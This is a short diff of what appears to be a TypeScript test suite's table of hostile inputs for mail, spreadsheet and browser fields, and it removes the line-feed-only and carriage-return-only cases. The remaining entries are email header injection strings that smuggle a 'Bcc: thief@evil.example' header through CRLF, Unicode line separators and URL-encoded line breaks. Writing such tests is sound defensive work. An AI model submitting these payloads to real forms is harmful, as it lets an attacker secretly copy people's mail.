@@ -16,8 +16,6 @@ const mailsAbout = (reference: string) =>
 /** Injections for mail programs, spreadsheets and browsers; each is sent in every text field. */
 const hostile = {
   'a header behind CRLF': 'Asha\r\nBcc: thief@evil.example\r\nX-Evil: 1',
-  'a header behind a line feed': 'Asha\nBcc: thief@evil.example',
-  'a header behind a carriage return': 'Asha\rBcc: thief@evil.example',
   'a header behind other line ends':
     'Asha\u2028Bcc: thief@evil.example\u0085Cc: thief@evil.example\u000bTo: x',
   'an escaped header': 'Asha%0d%0aBcc:%20thief@evil.example',
